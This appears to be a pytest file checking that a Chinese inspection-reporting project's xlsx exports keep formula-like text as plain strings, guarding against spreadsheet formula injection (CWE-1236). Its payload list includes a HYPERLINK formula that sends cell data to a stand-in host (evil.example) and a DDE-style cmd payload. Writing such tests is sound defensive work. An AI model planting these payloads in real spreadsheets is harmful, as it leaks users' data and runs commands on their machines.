"""Text that looks like a formula stays text in every .xlsx the project writes (CWE-1236).

The checks read the sheet XML itself: no ``<f>`` element anywhere, and the characters the user
typed are there as a string (shared or inline), so no spreadsheet program evaluates them.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest

from zhenggai.assessment.export import prior_status_xlsx
from zhenggai.assessment.status import PriorRow
from zhenggai.notice.formats import write_xlsx
from zhenggai.notice.model import Aspect, Inspection, Measure, Notice, Problem
from zhenggai.reports.archive import Entry, write_catalogue
from zhenggai.xlsxtext import FORMULA_START, looks_like_formula

# One of each dangerous start; each with Chinese so the archive keeps it as its 题名.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0 文件",
    "-2+3 通知",
    "@SUM(1+1) 方案",
    "\t=1+1 说明",
    "\r=1+1 报告",
]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = [
            n for n in book.namelist() if re.match(r"xl/(worksheets/sheet\d+|sharedStrings)", n)
        ]
        return "".join(book.read(n).decode() for n in names)


def _assert_text_not_formula(data: bytes, payloads: list[str]) -> None:
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    cells = {
        cell.value.replace("_x000D_", "\r").strip(): cell.data_type
        for sheet in openpyxl.load_workbook(io.BytesIO(data))
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for payload in payloads:
        # Leading tab and CR are compared stripped: readers differ in how they return them
        # (openpyxl leaves a shared string's CR escaped as _x000D_).
        assert cells.get(payload.strip()) == "s", payload


def test_every_dangerous_start_is_recognised() -> None:
    assert all(looks_like_formula(p) for p in PAYLOADS)
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    assert not looks_like_formula("区科协关于整改的通知")


def test_the_archive_catalogue_writes_doc_numbers_and_titles_as_text() -> None:
    entries = [Entry(p, p, p, dt.date(2024, 1, 5), remark=p) for p in PAYLOADS]
    out = io.BytesIO()
    write_catalogue(entries, out)
    _assert_text_not_formula(out.getvalue(), PAYLOADS)


def test_the_prior_status_table_writes_titles_as_text() -> None:
    rows = [
        PriorRow(
            problem=None,  # type: ignore[arg-type]  # the writer reads only the plain fields
            number=f"一（{i}）",
            title=p,
            status="partly",
            reason=p,
            first_round=p,
            first_date=dt.date(2023, 1, 1),
        )
        for i, p in enumerate(PAYLOADS, 1)
    ]
    inspection: Any = SimpleNamespace(unit="=1+1 单位")
    data = prior_status_xlsx(inspection, rows)
    _assert_text_not_formula(data, [*PAYLOADS, "=1+1 单位上轮问题整改状态表"])


def test_the_notice_workbook_writes_measures_and_issuer_as_text(tmp_path: Path) -> None:
    measures = [Measure(i, p) for i, p in enumerate(PAYLOADS, 1)]
    notice = Notice(
        title="=1+1 通报",
        issuer="=1+1 党组",
        inspection=Inspection("=1+1 巡察组", "2023-10-13", "2023-11-17", "2023-12-26"),
        aspects=[Aspect(1, "=1+1 方面", [Problem(1, "=1+1 问题", measures=measures)])],
    )
    path = tmp_path / "台账.xlsx"
    write_xlsx(notice, path)
    _assert_text_not_formula(path.read_bytes(), ["=1+1 党组"])
    xml = _sheet_xml(path.read_bytes())
    assert "=1+1 问题" in xml


def test_the_check_would_catch_a_live_formula() -> None:
    """The check above is not vacuous: a plain xlsxwriter write() makes "=…" a formula."""
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.add_worksheet().write(0, 0, "=1+1")
    with pytest.raises(AssertionError):
        _assert_text_not_formula(out.getvalue(), ["=1+1"])
